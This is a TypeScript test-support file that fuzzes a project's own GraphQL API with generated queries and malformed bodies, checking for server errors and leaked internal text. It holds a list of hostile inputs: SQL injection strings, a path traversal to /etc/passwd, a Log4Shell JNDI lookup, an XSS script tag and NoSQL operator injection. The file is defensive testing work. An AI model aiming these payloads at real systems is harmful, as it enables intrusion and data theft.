/**
 * Test support for issue 13 §3 "GraphQL abuse": operations generated from packages/api/schema.graphql (graphql-js walks
 * every root field, its arguments and its output type) with random and hostile arguments — huge strings, negative and
 * huge numbers, wrong types, malformed dates, injection-like text, deep and aliased selections, unknown fields,
 * variables of the wrong type — plus hostile bodies (invalid JSON, batched arrays, oversized, wrong content type),
 * sent over HTTP as various users. Every answer must be below 500, with no INTERNAL_SERVER_ERROR inside a 200 (a
 * resolver's failure), and carry no internal text (leaksIn).
 */
import fs from 'node:fs';
import path from 'node:path';
import {
  buildSchema,
  type GraphQLArgument,
  type GraphQLField,
  type GraphQLInputType,
  type GraphQLNamedType,
  type GraphQLOutputType,
  type GraphQLSchema,
  getNamedType,
  isEnumType,
  isInputObjectType,
  isListType,
  isNonNullType,
  isObjectType,
  isScalarType,
} from 'graphql';
import { random } from '../src/common/seeded-random';
import { leaksIn } from './http-test-server';

export function loadSchema(): GraphQLSchema {
  return buildSchema(fs.readFileSync(path.resolve(__dirname, '../schema.graphql'), 'utf8'));
}

const HOSTILE_STRINGS = [
  '',
  ' ',
  "'; DROP TABLE cases; --",
  "1' OR '1'='1",
  '") { __typename } #',
  '../../../../etc/passwd',
  '\u0000\u0001\u001f',
  '\ud800',
  '𠀀'.repeat(2000),
  'x'.repeat(60_000),
  '{"$gt": ""}',
  `\${jndi:ldap://evil/x}`,
  '<script>alert(1)</script>',
  '%s%n%x',
  'NaN',
  '-0',
  '1e309',
  '140000',
  '999999',
  '14010',
  '140100 OR 1=1',
  'toYYYYMM(now())',
  '{name:String}',
  '商品-食品',
  '食品安全',
];
const HOSTILE_DATES = [
  '2025-02-29',
  '2024-02-29',
  '2025-13-01',
  '2025-1-1',
  '20250101',
  '0000-00-00',
  '9999-12-31',
  '10000-01-01',
  '-0001-01-01',
  '2025-12-31T00:00:00Z',
  '2025-10-13',
  '1970-01-01',
];
const HOSTILE_MONTHS = ['2025-10', '2025-00', '2025-13', '9999-12', '0000-01', '2025-1', '202510', '2025-10-01'];
const HOSTILE_INTS = [0, -1, 1, 50, 500, 501, -2147483648, 2147483647, 2147483648, 1e20, 1.5, -0];

type Json = null | boolean | number | string | Json[] | { [k: string]: Json };

function pick<T>(r: () => number, list: readonly T[]): T {
  return list[Math.floor(r() * list.length)] as T;
}

/** A value for `type`: usually well-formed, often hostile, sometimes of a wrong type altogether. */
function valueFor(r: () => number, type: GraphQLInputType, argName: string, depth = 0): Json {
  const roll = r();
  if (roll < 0.06) return pick(r, [null, 42, 'text', true, [], {}, [1, 'a', null], -1e308] as Json[]);
  if (isNonNullType(type)) return valueFor(r, type.ofType, argName, depth);
  if (isListType(type)) {
    const n = r() < 0.05 ? 5000 : Math.floor(r() * 4);
    return Array.from({ length: n }, () => valueFor(r, type.ofType, argName, depth + 1));
  }
  if (isEnumType(type)) return r() < 0.85 ? pick(r, type.getValues()).name : pick(r, ['NOPE', 'city', '', 'CITY ']);
  if (isInputObjectType(type)) {
    const out: Record<string, Json> = {};
    for (const field of Object.values(type.getFields())) {
      if (isNonNullType(field.type) || r() < 0.5) out[field.name] = valueFor(r, field.type, field.name, depth + 1);
    }
    if (r() < 0.1) out.unknownField = 'x';
    if (r() < 0.1) delete out[pick(r, Object.keys(out).length ? Object.keys(out) : ['x'])];
    return out;
  }
  if (isScalarType(type)) {
    const name = type.name;
    if (name === 'Int') return pick(r, HOSTILE_INTS);
    if (name === 'Float') return pick(r, [...HOSTILE_INTS, 0.1, -1e300]);
    if (name === 'Boolean') return r() < 0.9 ? r() < 0.5 : 'true';
    if (name === 'Date') return pick(r, HOSTILE_DATES);
    if (/month|through/i.test(argName)) return pick(r, HOSTILE_MONTHS);
    if (/region|parent|code/i.test(argName) && r() < 0.5) return pick(r, ['140000', '140100', '140105', '330000', '999999']);
    return pick(r, HOSTILE_STRINGS);
  }
  return null;
}

/** A GraphQL literal for a JSON value (strings escaped as JSON strings, which GraphQL accepts). */
function literal(value: Json, type: GraphQLInputType): string {
  if (value === null) return 'null';
  if (Array.isArray(value))
    return `[${value.map((v) => literal(v, isListType(getNullable(type)) ? (getNullable(type) as { ofType: GraphQLInputType }).ofType : type)).join(', ')}]`;
  if (typeof value === 'object') {
    const t = getNamedType(type);
    return `{${Object.entries(value)
      .map(([k, v]) => `${k}: ${literal(v, isInputObjectType(t) ? (t.getFields()[k]?.type ?? t) : t)}`)
      .join(', ')}}`;
  }
  if (typeof value === 'string' && isEnumType(getNamedType(type)) && /^[A-Za-z_]\w*$/.test(value)) return value;
  if (typeof value === 'number' && !Number.isFinite(value)) return 'null';
  return JSON.stringify(value);
}

function getNullable(type: GraphQLInputType): GraphQLInputType {
  return isNonNullType(type) ? type.ofType : type;
}

function typeName(type: GraphQLInputType): string {
  return String(type);
}

/** A selection of `type`'s fields, `depth` levels deep at most (deeper than the limit now and then). */
function selection(r: () => number, type: GraphQLOutputType, depth: number): string {
  const named = getNamedType(type) as GraphQLNamedType;
  if (!isObjectType(named)) return '';
  const fields = Object.values(named.getFields());
  const chosen = fields.filter(() => r() < 0.5);
  if (chosen.length === 0) chosen.push(pick(r, fields));
  const parts = chosen.map((f) => {
    const sub = depth > 0 ? selection(r, f.type, depth - 1) : '';
    const needsSub = isObjectType(getNamedType(f.type));
    if (needsSub && !sub) return '__typename';
    return `${f.name}${needsSub ? ` { ${sub} }` : ''}`;
  });
  if (r() < 0.05) parts.push('notAField');
  if (r() < 0.05) parts.push('__schema { types { name } }');
  return parts.join(' ');
}

export interface FuzzRequest {
  seed: number;
  /** Raw body (a string: may be invalid JSON) and content type. */
  body: string;
  contentType: string;
  method: 'POST' | 'GET';
  /** Strings the request carried: an answer may echo them (they are not internal text). */
  echoes: string[];
}

function rootField(r: () => number, schema: GraphQLSchema): { op: 'query' | 'mutation'; field: GraphQLField<unknown, unknown> } {
  const mutation = r() < 0.25 ? schema.getMutationType() : null;
  const root = mutation ?? schema.getQueryType();
  if (!root) throw new Error('schema without Query');
  return { op: mutation ? 'mutation' : 'query', field: pick(r, Object.values(root.getFields())) };
}

/** One operation (or hostile body) from `seed`. */
export function fuzzRequest(schema: GraphQLSchema, seed: number): FuzzRequest {
  const r = random(seed); // a failing operation is generated again from its seed
  const echoes: string[] = [];
  const kind = r();
  if (kind < 0.04) {
    const body = pick(r, [
      '{',
      '{"query": ',
      'null',
      '[]',
      '"query"',
      '{"query": 5}',
      '{"query": "{ me { username } }", "variables": "x"}',
      '\u0000',
      '{"query":"{ indicators { id } }"}'.repeat(3),
    ]);
    return { seed, body, contentType: 'application/json', method: 'POST', echoes };
  }
  if (kind < 0.06) {
    return {
      seed,
      body: JSON.stringify({ query: `{ me { username } } ${'#'.repeat(300_000)}` }),
      contentType: 'application/json',
      method: 'POST',
      echoes,
    };
  }
  if (kind < 0.08) {
    return {
      seed,
      body: 'query={ indicators { id } }',
      contentType: pick(r, ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']),
      method: 'POST',
      echoes,
    };
  }
  const count = kind < 0.12 ? 2 + Math.floor(r() * 20) : 1;
  const { op, field } = rootField(r, schema);
  const variables: Record<string, Json> = {};
  const defs: string[] = [];
  const args: string[] = [];
  field.args.forEach((arg: GraphQLArgument, i) => {
    if (!isNonNullType(arg.type) && r() < 0.4) return;
    const value = valueFor(r, arg.type, arg.name);
    collectStrings(value, echoes);
    if (r() < 0.5) {
      // Now and then the variable is declared with another type than the argument's.
      const declared = r() < 0.1 ? pick(r, ['String', 'Int!', '[String]', 'Boolean']) : typeName(arg.type);
      defs.push(`$v${i}: ${declared}`);
      args.push(`${arg.name}: $v${i}`);
      variables[`v${i}`] = value;
    } else {
      args.push(`${arg.name}: ${literal(value, arg.type)}`);
    }
  });
  if (r() < 0.05) args.push('bogusArg: 1');
  const depth = r() < 0.1 ? 14 : 1 + Math.floor(r() * 4);
  const sub = selection(r, field.type, depth);
  const one = (alias: string) => `${alias}${field.name}${args.length ? `(${args.join(', ')})` : ''}${sub ? ` { ${sub} }` : ''}`;
  const body = Array.from({ length: count }, (_, k) => one(count > 1 ? `a${k}: ` : '')).join(' ');
  const query = `${op}${defs.length ? `(${defs.join(', ')})` : ''} { ${body} }`;
  const payload = { query, variables: r() < 0.05 ? pick(r, ['x', 5, [1]] as Json[]) : variables };
  const text = r() < 0.03 ? JSON.stringify([payload, payload]) : JSON.stringify(payload);
  if (r() < 0.03) {
    return { seed, body: '', contentType: 'application/json', method: 'GET', echoes: [...echoes, query] };
  }
  return { seed, body: text, contentType: 'application/json', method: 'POST', echoes };
}

function collectStrings(value: Json, out: string[]): void {
  if (typeof value === 'string') out.push(value);
  else if (Array.isArray(value)) for (const v of value) collectStrings(v, out);
  else if (value && typeof value === 'object') for (const v of Object.values(value)) collectStrings(v, out);
}

/** Internal text in `text` once the request's own strings (echoed back by validation messages) are taken out. */
export function leaksBeyondEchoes(text: string, echoes: string[]): string[] {
  let rest = text;
  for (const e of [...echoes].sort((a, b) => b.length - a.length)) {
    if (e.length < 3) continue;
    const forms = [e, JSON.stringify(e), JSON.stringify(e).slice(1, -1), JSON.stringify(JSON.stringify(e)).slice(1, -1)];
    for (const form of forms) rest = rest.split(form).join('');
  }
  return leaksIn(rest);
}

export interface FuzzResult {
  sent: number;
  /** Small requests whose connection was reset once and were sent again. */
  retried: number;
  /** HTTP status → answers; `cut`: a body over the limit whose connection the server closed after its 413. */
  byStatus: Partial<Record<number | 'cut', number>>;
  serverErrors: { seed: number; status: number; text: string }[];
  leaks: { seed: number; leaks: string[]; text: string }[];
}

/**
 * Bytes over the GraphQL body limit (256 kB): the server answers 413 and stops reading, so the client may see its
 * connection reset while it still writes. Such bodies are sent last, alone (pushing hundreds of MB from this process,
 * which is also the server's, would stall every other connection), and a reset counts as the refusal it is.
 */
const OVERSIZED_BODY = 256 * 1024;

/** Sends `count` generated requests (seeds from `firstSeed`), `concurrency` at a time, as the given tokens in turn. */
export async function runFuzz(options: {
  url: string;
  schema: GraphQLSchema;
  count: number;
  firstSeed?: number;
  concurrency?: number;
  tokens: (string | null)[];
}): Promise<FuzzResult> {
  const result: FuzzResult = { sent: 0, retried: 0, byStatus: {}, serverErrors: [], leaks: [] };
  let next = 0;
  const first = options.firstSeed ?? 1;
  // Bodies far over the limit are sent last, one at a time: the server answers 413 and stops reading, and the client
  // (this process, like the server) building and pushing hundreds of MB would otherwise stall every other connection.
  const huge: { req: FuzzRequest; token: string | null | undefined }[] = [];
  const send = async (req: FuzzRequest, token: string | null | undefined, oversized: boolean) => {
    const headers: Record<string, string> = { 'content-type': req.contentType, 'apollo-require-preflight': 'true' };
    if (token) headers.authorization = `Bearer ${token}`;
    let status: number | 'cut' = 0;
    let text = '';
    const target =
      req.method === 'GET'
        ? `${options.url}/graphql?query=${encodeURIComponent(req.echoes[req.echoes.length - 1] ?? '')}`
        : `${options.url}/graphql`;
    // A connection reset on a small request is retried (counted): fetch reuses idle keep-alive connections, and one
    // the server closed at its keep-alive timeout just as it was reused resets — what a browser retries too. Client and
    // server share this process: after a stall of the machine every pooled connection reaches both keep-alive timers
    // at once, so the first retry may take another closing one; the second finds the pool emptied. A server that
    // resets the request itself fails every attempt, and `retried` counts the resets.
    for (let attempt = 0; attempt < (oversized ? 1 : 3); attempt++) {
      try {
        const response = await fetch(target, { method: req.method, headers, body: req.method === 'POST' ? req.body : undefined });
        status = response.status;
        text = await response.text();
        break;
      } catch (error) {
        // A body over the limit may be cut off by the server (413 sent, the rest unread) before the client reads it.
        if (oversized) status = 'cut';
        text = `client: ${String(error)} ${String((error as { cause?: unknown }).cause ?? '')}`;
        if (!oversized) result.retried++;
      }
    }
    result.sent++;
    result.byStatus[status] = (result.byStatus[status] ?? 0) + 1;
    if (status === 0 || (typeof status === 'number' && status >= 500) || text.includes('"INTERNAL_SERVER_ERROR"'))
      result.serverErrors.push({ seed: req.seed, status: status === 'cut' ? 0 : status, text: text.slice(0, 400) });
    const leaks = leaksBeyondEchoes(text, req.echoes);
    if (leaks.length > 0) result.leaks.push({ seed: req.seed, leaks, text: text.slice(0, 600) });
  };
  const worker = async () => {
    while (next < options.count) {
      const i = next++;
      const req = fuzzRequest(options.schema, first + i);
      const token = options.tokens[i % options.tokens.length];
      if (Buffer.byteLength(req.body) > OVERSIZED_BODY) huge.push({ req, token });
      else await send(req, token, false);
    }
  };
  await Promise.all(Array.from({ length: options.concurrency ?? 8 }, worker));
  for (const { req, token } of huge) await send(req, token, true);
  return result;
}
